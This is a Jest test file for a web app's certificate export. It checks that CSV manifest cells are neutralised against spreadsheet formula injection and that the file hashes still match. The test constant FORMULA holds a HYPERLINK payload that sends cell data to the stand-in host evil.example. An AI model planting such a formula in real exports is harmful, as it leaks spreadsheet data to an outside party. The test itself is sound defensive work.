import { createHash } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { approveThrough, createDraft } from './support/applications';
import { bearer, createAgency, createApplicant, type Actor, type TestAgency } from './support/factories';
import { createCompleteOutlet } from './support/outlets';
import { startTestApp, type TestApp } from './support/test-app';
import { binary, readZip } from './support/zip';

const FORMULA = '=HYPERLINK("http://evil.example/?x="&A2,"Klik")';
const sha256 = (b: Buffer) => createHash('sha256').update(b).digest('hex');

/** Reads CSV the way a spreadsheet program does: quoted cells, doubled quotes, newlines inside quotes. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\n') {
      rows.push([...row, cell]);
      row = [];
      cell = '';
    } else cell += c;
  }
  if (cell !== '' || row.length > 0) rows.push([...row, cell]);
  return rows;
}

describe('CSV exports never carry a live formula', () => {
  let t: TestApp;
  let agency: TestAgency;
  let owner: Actor;

  beforeAll(async () => {
    t = await startTestApp();
    agency = await createAgency(t);
    owner = await createApplicant(t);
  });
  afterAll(() => t.close());

  it('an outlet named like a formula is plain text in the export manifest, and the hashes still match', async () => {
    const outlet = await createCompleteOutlet(t, owner, { reporters: 0, overrides: { brandName: FORMULA } });
    const draft = await createDraft(t, owner, outlet.id, agency.id);
    const { certificate } = await approveThrough(t, { owner, officer: agency.officer, officer2: agency.officer2, approver: agency.approver }, draft.id);
    const [{ year }] = await t.dataSource.query(`SELECT year FROM certificates WHERE id = $1`, [certificate.id]);

    const res = await t.http().get('/api/certificates/export').query({ year }).set(bearer(agency.auditor)).buffer(true).parse(binary).expect(200);
    const files = await readZip(res.body as Buffer);
    const text = files.get('manifest.csv')!.toString('utf8');
    const [header, ...rows] = parseCsv(text);
    expect(header).toEqual(['number', 'outlet', 'status', 'valid_from', 'valid_until', 'sha256', 'file']);
    const row = rows.find((r) => r[0] === certificate.number)!;
    expect(row[1]).toBe(`'${FORMULA}`);
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A2,""Klik"")"`);
    for (const r of rows) {
      expect(r).toHaveLength(7);
      expect(sha256(files.get(r[6])!)).toBe(r[5]);
      for (const cell of r) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
  });
});
